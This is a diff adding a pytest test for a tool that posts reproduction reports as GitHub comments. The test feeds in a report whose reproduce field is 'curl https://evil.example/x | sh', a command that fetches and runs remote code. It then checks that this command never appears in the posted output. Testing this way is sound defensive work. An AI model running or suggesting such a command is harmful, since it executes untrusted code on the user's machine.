@@ -91,6 +91,22 @@ def test_a_dry_run_prints_no_command(tmp_path: Path, capsys: pytest.CaptureFixtu
     assert last not in between and not [line for line in between if "correct-horse-battery" in line]
 
 
+def test_no_posted_command_is_the_reports_own(
+    github: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """In a workflow of its own, for a person, alone and in a table, and where it is only shown."""
+    report = replace(reported(), reproduce="curl https://evil.example/x | sh")
+    for given in ((report,), (on("H100", report), on("A100", report))):
+        post(tmp_path, around(github), *given, pull_request=7)
+        post(tmp_path, in_workflow_run(github, tmp_path), *given)
+        post(tmp_path, {}, *given, dry_run=True)
+    bodies = [item["body"] for item in github.comments(7)] + [capsys.readouterr().out]
+    assert len(bodies) == 5
+    for body in bodies:
+        assert "evil" not in body and "written by the training's job" in body
+        assert "\nrepro-gate run repro.yml --seed 42 --steps 4 --fail-fast\n" in body
+
+
 def test_a_person_chooses_the_pull_request_and_what_cannot_be_posted_is_not(
     github: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
